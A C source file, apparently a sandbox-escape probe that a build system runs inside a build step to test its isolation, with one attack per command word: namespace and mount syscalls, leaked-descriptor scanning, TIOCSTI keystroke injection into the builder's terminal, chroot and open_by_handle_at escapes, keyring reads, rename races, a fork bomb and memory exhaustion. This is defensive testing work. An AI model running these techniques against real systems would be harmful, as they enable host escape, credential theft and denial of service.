/* What a step tries from inside: one attack a word. Prints what came of it, one line each; linked statically. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void told(const char *name, long result) {
    printf("%s %s\n", name, result >= 0 ? "SUCCEEDED" : strerrorname_np(errno));
}

/* Calls that would reach past the sandbox. */
static int calls(void) {
    char page[4096] = {0};
    unsigned long clone_arguments[11] = {CLONE_NEWUSER};
    told("unshare-user", syscall(SYS_unshare, CLONE_NEWUSER));
    told("unshare-mount", syscall(SYS_unshare, CLONE_NEWNS));
    told("clone3", syscall(SYS_clone3, clone_arguments, sizeof clone_arguments));
    told("clone-user", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    told("setns", syscall(SYS_setns, open("/proc/1/ns/mnt", O_RDONLY), 0));
    told("mount", mount("none", "/tmp", "tmpfs", 0, 0));
    told("umount", umount2("/proc", MNT_DETACH));
    told("remount", mount("none", "/", 0, MS_REMOUNT | MS_BIND, 0));
    told("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    told("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    told("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/", 0));
    told("pivot_root", syscall(SYS_pivot_root, "/", "/tmp"));
    told("bpf", syscall(SYS_bpf, 0, page, 64));
    told("perf_event_open", syscall(SYS_perf_event_open, page, 0, -1, -1, 0));
    told("userfaultfd", syscall(SYS_userfaultfd, 0));
    told("io_uring_setup", syscall(SYS_io_uring_setup, 1, page));
    told("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    told("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -5));
    told("request_key", syscall(SYS_request_key, "user", "x", 0, 0));
    told("init_module", syscall(SYS_init_module, page, sizeof page, ""));
    told("finit_module", syscall(SYS_finit_module, 0, "", 0));
    told("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
    told("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, 0));
    told("swapon", syscall(SYS_swapon, "/tmp", 0));
    told("settimeofday", syscall(SYS_settimeofday, page, 0));
    told("clock_settime", syscall(SYS_clock_settime, 0, page));
    told("sethostname", syscall(SYS_sethostname, "evil", 4));
    told("setdomainname", syscall(SYS_setdomainname, "evil", 4));
    told("acct", syscall(SYS_acct, "/tmp/acct"));
    told("quotactl", syscall(SYS_quotactl, 0, "/", 0, page));
    told("syslog", syscall(SYS_syslog, 3, page, sizeof page));
    told("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, page, O_RDONLY));
    told("fanotify_init", syscall(SYS_fanotify_init, 0, O_RDONLY));
    told("name-personality", syscall(SYS_personality, 0x0040000));
    told("socket-vsock", syscall(SYS_socket, AF_VSOCK, SOCK_STREAM, 0));
    told("socket-alg", syscall(SYS_socket, AF_ALG, SOCK_SEQPACKET, 0));
    told("socket-vsock-high", syscall(SYS_socket, 1L << 32 | AF_VSOCK, SOCK_STREAM, 0));
    told("setpriority", setpriority(PRIO_PROCESS, 0, -20));
    return 0;
}

/* Every descriptor that is open, whatever /proc says (CVE-2024-21626). */
static int descriptors(void) {
    struct stat found;
    for (int fd = 0; fd < 4096; fd++)
        if (!fstat(fd, &found)) printf("%d\n", fd);
    return 0;
}

/* Typing into the terminal of whoever started the build. */
static int type_in(const char *text) {
    const char *names[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"};
    for (int i = 0; i < 5; i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY);
        long result = fd;
        ioctl(fd, TIOCSCTTY, 1);
        for (const char *each = text; fd >= 0 && *each; each++) result = ioctl(fd, TIOCSTI, each);
        told(names[i], result);
    }
    for (int fd = 0; fd < 3; fd++) told("TIOCSTI", ioctl(fd, TIOCSTI, text));
    return 0;
}

/* Out of a chroot by a descriptor of above: CAP_SYS_CHROOT is given. Then the root is the image's at best. */
static int chroot_out(const char *canary) {
    mkdir("/cage", 0700);
    int above = open("/", O_RDONLY);
    if (chroot("/cage") || fchdir(above)) return 1;
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    told(canary, open(canary, O_RDONLY));
    told("bin/busybox", open("/bin/busybox", O_RDONLY));
    return 0;
}

/* A host's file by the number of its inode, as "shocker" did: 2 is the root of most file systems. */
static int by_handle(void) {
    struct { unsigned bytes; int type; unsigned char handle[8]; } root = {8, 1, {2}};
    int fd = open("/etc/hosts", O_RDONLY);
    told("open_by_handle_at", syscall(SYS_open_by_handle_at, fd, &root, O_RDONLY));
    return 0;
}

/* A key of the one who builds, by name, in each keyring that a process has without asking. */
static int key(const char *name) {
    for (int ring = -5; ring <= -1; ring++) told("keyctl", syscall(SYS_keyctl, 10, ring, "user", name, 0));
    told("request_key", syscall(SYS_request_key, "user", name, 0, 0));
    return 0;
}

/* Exchange two names, over and over. */
static int swap(const char *one, const char *other, int seconds) {
    long count = 0;
    for (time_t end = time(0) + seconds; time(0) < end;)
        for (int i = 0; i < 1000; i++) count += !syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
    printf("%s\n", count > 1000 ? "swapped" : "did not swap");
    return 0;
}

static int bomb(void) {
    long count = 0;
    for (int failed = 0; failed < 1000;) {
        pid_t child = fork();
        if (child == 0) for (;;) pause();
        if (child < 0) failed++; else if (++count > 100000) break;
    }
    printf("%ld processes\n", count);
    return 0;
}

static int memory(void) {
    for (long size = 0; size < 1L << 34; size += 1 << 24) {
        char *block = malloc(1 << 24);
        if (!block) return 1;
        memset(block, 1, 1 << 24);
    }
    puts("16 GiB of memory");
    return 0;
}

/* Go on whatever comes: signals, a parent's death, a closed terminal. */
static int stay(const char *marker) {
    (void)marker;
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (;;) pause();
}

static int daemonise(char **argv) {
    for (int i = 0; i < 2; i++) {
        if (fork()) return 0;
        setsid();
    }
    prctl(PR_SET_PDEATHSIG, 0);
    return stay(argv[2]);
}

int main(int argc, char **argv) {
    const char *word = argc > 1 ? argv[1] : "";
    setvbuf(stdout, 0, _IOLBF, 0);
    if (!strcmp(word, "calls")) return calls();
    if (!strcmp(word, "descriptors")) return descriptors();
    if (!strcmp(word, "type")) return type_in(argv[2]);
    if (!strcmp(word, "chroot")) return chroot_out(argv[2]);
    if (!strcmp(word, "handle")) return by_handle();
    if (!strcmp(word, "key")) return key(argv[2]);
    if (!strcmp(word, "swap")) return swap(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(word, "bomb")) return bomb();
    if (!strcmp(word, "memory")) return memory();
    if (!strcmp(word, "stay")) return stay(argv[2]);
    if (!strcmp(word, "daemon")) return daemonise(argv);
    if (!strcmp(word, "crash")) { raise(SIGSEGV); abort(); }
    return 2;
}
